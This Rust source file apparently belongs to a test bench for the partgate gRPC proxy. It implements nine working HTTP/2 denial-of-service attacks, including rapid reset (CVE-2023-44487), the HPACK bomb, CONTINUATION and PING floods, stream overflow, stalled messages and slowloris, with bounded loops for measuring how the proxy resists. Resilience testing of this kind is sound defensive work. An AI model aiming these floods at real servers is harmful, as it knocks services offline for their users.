//! The attacks, each a raw HTTP/2 (or, for slowloris, raw TCP) client written with
//! [`crate::h2raw`]. Every one runs until its deadline, until the bench aborts it (the proxy's
//! memory passed the cap), or until the proxy sends GOAWAY or closes the connection: one
//! attacker connection (slowloris: many), never reconnecting. Every loop is bounded in time and
//! in count.

use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use crate::h2raw::{
    self, CANCEL, CONTINUATION, Conn, ConnReport, DATA, END_HEADERS, END_STREAM, HEADERS,
    MAX_FRAME, SETTINGS_ENABLE_PUSH,
};

const IS_POWERED: &str = "/viam.component.motor.v1.MotorService/IsPowered";
const WATCH: &str = "/acme.component.counter.v1.CounterService/Watch";
const ECHO: &str = "/viam.component.testecho.v1.TestEchoService/Echo";

/// Bytes per write of the floods: many frames encoded once, written again and again.
const BATCH: usize = 64 * 1024;
/// Upper bound on the units (frames, streams) any attack sends, whatever the clock does.
const MAX_UNITS: u64 = 2_000_000_000;
/// Streams the empty-DATA attack opens and spreads its frames over.
const EMPTY_DATA_STREAMS: u32 = 10;
/// HPACK bomb: references to the big dynamic-table entry in each header block.
const BOMB_REFS: usize = 4000;
/// HPACK bomb: the big entry's value (with its 6-byte name and HPACK's 32 bytes of overhead it
/// fits the default 4,096-byte table).
const BOMB_VALUE: usize = 4000;
/// Overflow: streams opened per wave, the pause between waves, and the cap.
const OVERFLOW_WAVE: u32 = 100;
const OVERFLOW_PAUSE: Duration = Duration::from_millis(100);
const OVERFLOW_STREAMS: u32 = 5000;
/// Overflow: messages each Watch asks for (about 20 bytes each: ~200 MB per call).
const WATCH_COUNT: u64 = 10_000_000;
/// Stalled first messages: the size each declares, the streams (at most; fewer if the proxy
/// allows fewer), and how much of each is sent at most (less if the proxy's stream window is
/// smaller).
const STALL_DECLARED: usize = 16 << 20;
const STALL_STREAMS: usize = 1000;
const STALL_SEND: usize = 1 << 20;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    Ping,
    Settings,
    EmptyData,
    HpackBomb,
    RapidReset,
    Continuation,
    Overflow,
    Stall,
    Slowloris,
}

impl Attack {
    pub const ALL: [Attack; 9] = [
        Attack::Ping,
        Attack::Settings,
        Attack::EmptyData,
        Attack::HpackBomb,
        Attack::RapidReset,
        Attack::Continuation,
        Attack::Overflow,
        Attack::Stall,
        Attack::Slowloris,
    ];

    pub fn key(self) -> &'static str {
        match self {
            Attack::Ping => "ping",
            Attack::Settings => "settings",
            Attack::EmptyData => "empty-data",
            Attack::HpackBomb => "hpack-bomb",
            Attack::RapidReset => "rapid-reset",
            Attack::Continuation => "continuation",
            Attack::Overflow => "overflow",
            Attack::Stall => "stall",
            Attack::Slowloris => "slowloris",
        }
    }

    pub fn label(self) -> &'static str {
        match self {
            Attack::Ping => "PING flood, replies unread (CVE-2019-9512)",
            Attack::Settings => "SETTINGS flood, ACKs unread (CVE-2019-9515)",
            Attack::EmptyData => "empty DATA frames (CVE-2019-9518)",
            Attack::HpackBomb => "HPACK bomb (4 KB entry x 4000 refs)",
            Attack::RapidReset => "rapid reset (CVE-2023-44487)",
            Attack::Continuation => "CONTINUATION flood",
            Attack::Overflow => "streams with unread answers (CVE-2019-9517)",
            Attack::Stall => "large first messages, stalled",
            Attack::Slowloris => "slowloris (h1 + h2, 1 byte/s)",
        }
    }
}

/// Where an attack goes, and how resources are named there (through partgate with the part
/// prefix, `bench:motor1`; elsewhere plain).
#[derive(Debug, Clone)]
pub struct Target {
    pub addr: SocketAddr,
    pub prefixed: bool,
    /// The attacker's source address (default: the OS's choice, 127.0.0.1).
    pub from: Option<IpAddr>,
}

impl Target {
    fn authority(&self) -> String {
        self.addr.to_string()
    }

    fn name(&self, resource: &str) -> String {
        if self.prefixed {
            format!("bench:{resource}")
        } else {
            resource.to_owned()
        }
    }
}

/// What an attack did, and what the proxy did about it.
#[derive(Debug, Default)]
pub struct AttackReport {
    /// The attacker's HTTP/2 connection(s).
    pub conns: Vec<ConnReport>,
    /// How many of `unit` were sent.
    pub sent: u64,
    pub unit: &'static str,
    /// The attack could not start (no connection, no HTTP/2 handshake).
    pub failed: Option<String>,
    pub note: Option<String>,
    pub slow: Option<SlowReport>,
}

impl AttackReport {
    fn one(conn: ConnReport, sent: u64, unit: &'static str) -> Self {
        Self {
            conns: vec![conn],
            sent,
            unit,
            ..Default::default()
        }
    }
}

/// Runs `attack` against `target` until `end` (or `abort`).
pub fn run(
    attack: Attack,
    target: &Target,
    end: Instant,
    abort: &AtomicBool,
    slow_conns: usize,
) -> AttackReport {
    let t0 = Instant::now();
    let result = match attack {
        Attack::Ping => ping_flood(target, t0, end, abort),
        Attack::Settings => settings_flood(target, t0, end, abort),
        Attack::EmptyData => empty_data(target, t0, end, abort),
        Attack::HpackBomb => hpack_bomb(target, t0, end, abort),
        Attack::RapidReset => rapid_reset(target, t0, end, abort),
        Attack::Continuation => continuation_flood(target, t0, end, abort),
        Attack::Overflow => overflow(target, t0, end, abort),
        Attack::Stall => stalled_messages(target, t0, end, abort),
        Attack::Slowloris => slowloris(target, t0, end, abort, slow_conns),
    };
    result.unwrap_or_else(|e| AttackReport {
        failed: Some(e),
        ..Default::default()
    })
}

/// Sends `batch` over and over until the attack must stop; returns the batches sent.
fn repeat(c: &mut Conn, batch: &[u8], end: Instant, abort: &AtomicBool) -> u64 {
    let mut n = 0;
    while n < MAX_UNITS && c.send(batch, end, abort) {
        n += 1;
    }
    n
}

/// Attack 1: PING frames as fast as the proxy takes them; its PING ACKs are never read.
fn ping_flood(
    t: &Target,
    t0: Instant,
    end: Instant,
    abort: &AtomicBool,
) -> Result<AttackReport, String> {
    let mut c = Conn::open(t.addr, t.from, t0, &[(SETTINGS_ENABLE_PUSH, 0)])?;
    let per = BATCH / 17;
    let mut batch = Vec::with_capacity(BATCH);
    for i in 0..per {
        h2raw::ping(&mut batch, i as u64);
    }
    let batches = repeat(&mut c, &batch, end, abort);
    Ok(AttackReport::one(
        c.finish(),
        batches * per as u64,
        "PINGs sent",
    ))
}

/// Attack 2: SETTINGS frames (one parameter each) as fast as the proxy takes them; its ACKs are
/// never read.
fn settings_flood(
    t: &Target,
    t0: Instant,
    end: Instant,
    abort: &AtomicBool,
) -> Result<AttackReport, String> {
    let mut c = Conn::open(t.addr, t.from, t0, &[(SETTINGS_ENABLE_PUSH, 0)])?;
    let per = BATCH / 15;
    let mut batch = Vec::with_capacity(BATCH);
    for _ in 0..per {
        h2raw::settings(&mut batch, &[(SETTINGS_ENABLE_PUSH, 0)]);
    }
    let batches = repeat(&mut c, &batch, end, abort);
    Ok(AttackReport::one(
        c.finish(),
        batches * per as u64,
        "SETTINGS sent",
    ))
}

/// Attack 3: Ten IsPowered calls opened (HEADERS, no END_STREAM), then DATA frames with no payload
/// and no END_STREAM on them, round robin.
fn empty_data(
    t: &Target,
    t0: Instant,
    end: Instant,
    abort: &AtomicBool,
) -> Result<AttackReport, String> {
    let mut c = Conn::open(t.addr, t.from, t0, &[(SETTINGS_ENABLE_PUSH, 0)])?;
    c.start_reader()?;
    let block = h2raw::grpc_request_block(&t.authority(), IS_POWERED);
    let mut open = Vec::new();
    for k in 0..EMPTY_DATA_STREAMS {
        h2raw::frame(&mut open, HEADERS, END_HEADERS, 1 + 2 * k, &block);
    }
    if !c.send(&open, end, abort) {
        return Ok(AttackReport::one(c.finish(), 0, "empty DATA frames sent"));
    }
    let per = BATCH / 9;
    let mut batch = Vec::with_capacity(BATCH);
    for i in 0..per {
        let stream = 1 + 2 * (i as u32 % EMPTY_DATA_STREAMS);
        h2raw::frame(&mut batch, DATA, 0, stream, &[]);
    }
    let batches = repeat(&mut c, &batch, end, abort);
    Ok(AttackReport::one(
        c.finish(),
        batches * per as u64,
        "empty DATA frames sent",
    ))
}

/// Attack 4: One header with a ~4 KB value added to the proxy's HPACK dynamic table (literal with
/// incremental indexing), then request after request whose header block refers to it [`BOMB_REFS`]
/// times (one byte each): 4 KB on the wire, 16 MB of headers decoded.
fn hpack_bomb(
    t: &Target,
    t0: Instant,
    end: Instant,
    abort: &AtomicBool,
) -> Result<AttackReport, String> {
    const NAME: &[u8] = b"x-bomb";
    let mut c = Conn::open(t.addr, t.from, t0, &[(SETTINGS_ENABLE_PUSH, 0)])?;
    c.start_reader()?;
    // The entry must fit the proxy's decoder table (name + value + 32), or it is not kept.
    let table = c.settings.header_table_size as usize;
    let Some(room) = table.checked_sub(NAME.len() + 32).filter(|r| *r >= 256) else {
        let mut r = AttackReport::one(c.finish(), 0, "requests sent");
        r.note = Some(format!(
            "not attempted: the proxy's HPACK table is {table} bytes"
        ));
        return Ok(r);
    };
    let value = vec![b'a'; BOMB_VALUE.min(room)];
    let base = h2raw::grpc_request_block(&t.authority(), IS_POWERED);
    let mut refs = Vec::with_capacity(BOMB_REFS);
    for _ in 0..BOMB_REFS {
        h2raw::indexed(&mut refs, 62); // the newest dynamic entry: ours
    }
    let mut first = base.clone();
    h2raw::literal_new_name(&mut first, NAME, &value, true);
    first.extend_from_slice(&refs);
    let mut later = base;
    later.extend_from_slice(&refs);
    let flags = END_HEADERS | END_STREAM;
    let mut batch = Vec::new();
    h2raw::frame(&mut batch, HEADERS, flags, 1, &first);
    if !c.send(&batch, end, abort) {
        return Ok(AttackReport::one(c.finish(), 0, "requests sent"));
    }
    let mut sent = 1u64;
    let mut stream = 3u32;
    let per = (BATCH / (later.len() + 9)).max(1);
    while sent < MAX_UNITS && stream < 0x7fff_0000 {
        batch.clear();
        for _ in 0..per {
            h2raw::frame(&mut batch, HEADERS, flags, stream, &later);
            stream += 2;
        }
        if !c.send(&batch, end, abort) {
            break;
        }
        sent += per as u64;
    }
    let mut r = AttackReport::one(c.finish(), sent, "requests sent");
    r.note = Some(format!(
        "{} B on the wire, {:.0} MB of headers decoded per request",
        later.len(),
        (BOMB_REFS * (NAME.len() + value.len())) as f64 / 1e6
    ));
    Ok(r)
}

/// Attack 5: Rapid reset: an IsPowered call (HEADERS, then DATA with the message and END_STREAM)
/// and at once RST_STREAM(CANCEL), stream after stream.
fn rapid_reset(
    t: &Target,
    t0: Instant,
    end: Instant,
    abort: &AtomicBool,
) -> Result<AttackReport, String> {
    let mut c = Conn::open(t.addr, t.from, t0, &[(SETTINGS_ENABLE_PUSH, 0)])?;
    c.start_reader()?;
    let block = h2raw::grpc_request_block(&t.authority(), IS_POWERED);
    let mut msg = Vec::new();
    h2raw::pb_string(&mut msg, 1, &t.name("motor1"));
    let msg = h2raw::grpc_message(&msg);
    let per = 100;
    let mut stream = 1u32;
    let mut sent = 0u64;
    let mut batch = Vec::new();
    while sent < MAX_UNITS && stream < 0x7fff_0000 {
        batch.clear();
        for _ in 0..per {
            h2raw::frame(&mut batch, HEADERS, END_HEADERS, stream, &block);
            h2raw::frame(&mut batch, DATA, END_STREAM, stream, &msg);
            h2raw::rst_stream(&mut batch, stream, CANCEL);
            stream += 2;
        }
        if !c.send(&batch, end, abort) {
            break;
        }
        sent += per;
    }
    Ok(AttackReport::one(
        c.finish(),
        sent,
        "streams opened and reset",
    ))
}

/// Attack 6: One request's HEADERS without END_HEADERS, then CONTINUATION frames without
/// END_HEADERS, for ever: each 16 KB of complete literal header fields (1 KB values).
fn continuation_flood(
    t: &Target,
    t0: Instant,
    end: Instant,
    abort: &AtomicBool,
) -> Result<AttackReport, String> {
    let mut c = Conn::open(t.addr, t.from, t0, &[(SETTINGS_ENABLE_PUSH, 0)])?;
    c.start_reader()?;
    let block = h2raw::grpc_request_block(&t.authority(), IS_POWERED);
    let mut payload = Vec::with_capacity(MAX_FRAME);
    let value = vec![b'c'; 1000];
    for i in 0.. {
        let mut field = Vec::new();
        h2raw::literal_new_name(&mut field, format!("x-flood-{i}").as_bytes(), &value, false);
        if payload.len() + field.len() > MAX_FRAME {
            break;
        }
        payload.extend_from_slice(&field);
    }
    let mut first = Vec::new();
    h2raw::frame(&mut first, HEADERS, 0, 1, &block);
    if !c.send(&first, end, abort) {
        return Ok(AttackReport::one(c.finish(), 0, "CONTINUATIONs sent"));
    }
    let per = 4;
    let mut batch = Vec::new();
    for _ in 0..per {
        h2raw::frame(&mut batch, CONTINUATION, 0, 1, &payload);
    }
    let batches = repeat(&mut c, &batch, end, abort);
    Ok(AttackReport::one(
        c.finish(),
        batches * per as u64,
        "CONTINUATIONs (16 KB) sent",
    ))
}

/// Attack 7: Waves of server-streaming calls with huge answers (Watch, 10 M messages each), more
/// than the proxy allows at once, on default flow-control windows that are never extended (no
/// WINDOW_UPDATE) and a socket that is never read.
fn overflow(
    t: &Target,
    t0: Instant,
    end: Instant,
    abort: &AtomicBool,
) -> Result<AttackReport, String> {
    let mut c = Conn::open(t.addr, t.from, t0, &[(SETTINGS_ENABLE_PUSH, 0)])?;
    let block = h2raw::grpc_request_block(&t.authority(), WATCH);
    let mut msg = Vec::new();
    h2raw::pb_string(&mut msg, 1, &t.name("c1"));
    h2raw::pb_varint(&mut msg, 2, WATCH_COUNT);
    let msg = h2raw::grpc_message(&msg);
    let mut stream = 1u32;
    let mut opened = 0u32;
    let mut batch = Vec::new();
    let mut wave_at = Instant::now();
    while opened < OVERFLOW_STREAMS && !abort.load(Ordering::Relaxed) {
        batch.clear();
        for _ in 0..OVERFLOW_WAVE {
            h2raw::frame(&mut batch, HEADERS, END_HEADERS, stream, &block);
            h2raw::frame(&mut batch, DATA, END_STREAM, stream, &msg);
            stream += 2;
        }
        if !c.send(&batch, end, abort) {
            break;
        }
        opened += OVERFLOW_WAVE;
        wave_at += OVERFLOW_PAUSE;
        if !sleep_until(wave_at, end, abort) {
            break;
        }
    }
    // Hold the calls open, reading nothing, until the end.
    while sleep_until(Instant::now() + Duration::from_millis(50), end, abort) {}
    let mut r = AttackReport::one(c.finish(), u64::from(opened), "Watch calls opened");
    r.note = Some(format!(
        "Watch x{WATCH_COUNT} each, waves of {OVERFLOW_WAVE} every {} ms",
        OVERFLOW_PAUSE.as_millis()
    ));
    Ok(r)
}

/// Sleeps until `at` in short steps; false if the attack must stop first.
fn sleep_until(at: Instant, end: Instant, abort: &AtomicBool) -> bool {
    loop {
        let now = Instant::now();
        if now >= end || abort.load(Ordering::Relaxed) {
            return false;
        }
        if now >= at {
            return true;
        }
        std::thread::sleep((at - now).min(Duration::from_millis(20)));
    }
}

fn varint_len(v: usize) -> usize {
    let mut n = 1;
    let mut v = v >> 7;
    while v > 0 {
        n += 1;
        v >>= 7;
    }
    n
}

/// Attack 8: Echo calls whose first message declares 16 MiB (gRPC length prefix) on as many streams
/// as the proxy allows (at most 1,000), each then sent only as far as the proxy's stream window
/// lets (at most 1 MiB), and never finished.
fn stalled_messages(
    t: &Target,
    t0: Instant,
    end: Instant,
    abort: &AtomicBool,
) -> Result<AttackReport, String> {
    let mut c = Conn::open(t.addr, t.from, t0, &[(SETTINGS_ENABLE_PUSH, 0)])?;
    c.start_reader()?;
    let streams = c
        .settings
        .max_concurrent_streams
        .map_or(STALL_STREAMS, |m| (m as usize).min(STALL_STREAMS))
        .max(1);
    let target = (c.settings.initial_window as usize).min(STALL_SEND);
    // The message: field 1 the name, field 2 a string that fills it up to the declared size.
    let name = t.name("echo1");
    let mut head = Vec::new();
    h2raw::grpc_prefix(&mut head, STALL_DECLARED as u32);
    h2raw::pb_string(&mut head, 1, &name);
    let rest = STALL_DECLARED - (head.len() - 5) - 1;
    let filler_len = rest - varint_len(rest);
    h2raw::pb_len_prefix(&mut head, 2, filler_len);
    let block = h2raw::grpc_request_block(&t.authority(), ECHO);
    let id = |i: usize| 1 + 2 * i as u32;
    let mut sent = vec![0usize; streams];
    let mut batch = Vec::new();
    let mut opened = 0;
    // Open every stream with the start of its message, as the connection window allows.
    'open: while opened < streams && !c.gone() {
        batch.clear();
        while opened < streams && batch.len() < BATCH {
            if c.credit() < head.len() as i64 {
                break;
            }
            h2raw::frame(&mut batch, HEADERS, END_HEADERS, id(opened), &block);
            h2raw::frame(&mut batch, DATA, 0, id(opened), &head);
            c.spend(head.len());
            sent[opened] = head.len();
            opened += 1;
        }
        if !batch.is_empty() && !c.send(&batch, end, abort) {
            break 'open;
        }
        if batch.is_empty() && !sleep_until(Instant::now() + Duration::from_millis(10), end, abort)
        {
            break 'open;
        }
    }
    // Then more of each message, round robin, never reaching the end.
    let filler = vec![b'x'; MAX_FRAME];
    let mut stopped = opened < streams;
    while !stopped {
        batch.clear();
        let mut more = false;
        for (i, s) in sent.iter_mut().enumerate().take(opened) {
            if *s >= target || c.was_reset(id(i)) {
                continue;
            }
            let credit = c.credit();
            if credit <= 0 {
                more = true;
                break;
            }
            let chunk = (target - *s).min(MAX_FRAME).min(credit as usize);
            h2raw::frame(&mut batch, DATA, 0, id(i), &filler[..chunk]);
            c.spend(chunk);
            *s += chunk;
            more |= *s < target;
            if batch.len() >= BATCH {
                if !c.send(&batch, end, abort) {
                    stopped = true;
                    break;
                }
                batch.clear();
            }
        }
        if stopped || (!batch.is_empty() && !c.send(&batch, end, abort)) {
            break;
        }
        // Nothing left to send, or no window: wait (for WINDOW_UPDATEs, or for the end).
        let pause = if more { 10 } else { 50 };
        if batch.is_empty()
            && !sleep_until(Instant::now() + Duration::from_millis(pause), end, abort)
        {
            break;
        }
        stopped = c.gone();
    }
    while !c.gone() && sleep_until(Instant::now() + Duration::from_millis(50), end, abort) {}
    let total: usize = sent.iter().sum();
    let full = sent.iter().filter(|s| **s >= target).count();
    let mut r = AttackReport::one(c.finish(), opened as u64, "streams opened");
    r.note = Some(format!(
        "{:.1} MiB of 16 MiB messages sent; {full} of {opened} streams got their {} KiB",
        total as f64 / (1024.0 * 1024.0),
        target / 1024
    ));
    Ok(r)
}

/// How the slowloris connections fared.
#[derive(Debug, Default)]
pub struct SlowReport {
    pub wanted: usize,
    pub opened: usize,
    pub refused: usize,
    pub first_refusal: Option<String>,
    /// Closed by the proxy while the attack ran, and when the first was.
    pub closed: usize,
    pub first_closed: Option<Duration>,
    /// Found closed after the attack.
    pub closed_after: usize,
    /// Connections on which the proxy sent something (an HTTP error, its SETTINGS).
    pub answered: usize,
    pub bytes_sent: u64,
}

/// An HTTP/1.1 request head that never ends: the request line, then header lines for ever.
const SLOW_H1: &[u8] = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: partgate-attack\r\n";
const SLOW_H1_MORE: &[u8] = b"X-Slow: 1\r\n";

/// Byte `k` of what a slowloris connection sends: an endless HTTP/1.1 request head, or the
/// HTTP/2 preface, an empty SETTINGS frame and then PING frames.
fn slow_byte(h2: bool, k: usize) -> u8 {
    if h2 {
        let mut head = h2raw::PREFACE.to_vec();
        h2raw::settings(&mut head, &[]);
        if k < head.len() {
            return head[k];
        }
        let mut ping = Vec::new();
        h2raw::ping(&mut ping, 0);
        ping[(k - head.len()) % ping.len()]
    } else if k < SLOW_H1.len() {
        SLOW_H1[k]
    } else {
        SLOW_H1_MORE[(k - SLOW_H1.len()) % SLOW_H1_MORE.len()]
    }
}

/// What a non-blocking read says about a connection: closed (EOF or error), answered, or
/// nothing yet.
fn probe(s: &mut TcpStream) -> Option<bool> {
    let mut buf = [0u8; 4096];
    match s.read(&mut buf) {
        Ok(0) => None,
        Ok(_) => Some(true),
        Err(e) if e.kind() == ErrorKind::WouldBlock => Some(false),
        Err(_) => None,
    }
}

/// Attack 9: Many connections (half an HTTP/1.1 request head, half the HTTP/2 preface), each
/// sending one byte a second, spread evenly over the second.
fn slowloris(
    t: &Target,
    t0: Instant,
    end: Instant,
    abort: &AtomicBool,
    conns: usize,
) -> Result<AttackReport, String> {
    let mut rep = SlowReport {
        wanted: conns,
        ..Default::default()
    };
    // (socket, bytes sent, HTTP/2?, answered?)
    let mut socks: Vec<Option<(TcpStream, usize, bool, bool)>> = Vec::with_capacity(conns);
    for i in 0..conns {
        if Instant::now() >= end || abort.load(Ordering::Relaxed) {
            break;
        }
        match h2raw::connect(t.addr, t.from, Duration::from_secs(1)) {
            Ok(s) => {
                s.set_nonblocking(true)
                    .map_err(|e| format!("set_nonblocking: {e}"))?;
                let _ = s.set_nodelay(true);
                socks.push(Some((s, 0, i % 2 == 1, false)));
                rep.opened += 1;
            }
            Err(e) => {
                rep.refused += 1;
                rep.first_refusal.get_or_insert_with(|| e.to_string());
            }
        }
    }
    if socks.is_empty() {
        return Err(format!(
            "no connection opened ({})",
            rep.first_refusal.as_deref().unwrap_or("none tried")
        ));
    }
    let n = socks.len();
    let start = Instant::now();
    let mut next: Vec<Instant> = (0..n)
        .map(|i| start + Duration::from_secs_f64(i as f64 / n as f64))
        .collect();
    let mut rounds = 0u64;
    while rounds < MAX_UNITS && sleep_until(Instant::now() + Duration::from_millis(10), end, abort)
    {
        rounds += 1;
        let now = Instant::now();
        for (i, slot) in socks.iter_mut().enumerate() {
            let Some((s, k, h2, answered)) = slot else {
                continue;
            };
            if next[i] > now {
                continue;
            }
            next[i] += Duration::from_secs(1);
            let closed = match s.write(&[slow_byte(*h2, *k)]) {
                Ok(1) => {
                    *k += 1;
                    rep.bytes_sent += 1;
                    false
                }
                Ok(_) => false,
                Err(e) if e.kind() == ErrorKind::WouldBlock => false,
                Err(_) => true,
            };
            let closed = closed
                || match probe(s) {
                    None => true,
                    Some(got) => {
                        if got && !*answered {
                            *answered = true;
                            rep.answered += 1;
                        }
                        false
                    }
                };
            if closed {
                rep.closed += 1;
                rep.first_closed.get_or_insert(t0.elapsed());
                *slot = None;
            }
        }
    }
    for (s, _, _, answered) in socks.iter_mut().flatten() {
        match probe(s) {
            None => rep.closed_after += 1,
            Some(true) if !*answered => rep.answered += 1,
            Some(_) => {}
        }
    }
    drop(socks);
    Ok(AttackReport {
        sent: rep.bytes_sent,
        unit: "bytes sent",
        slow: Some(rep),
        ..Default::default()
    })
}
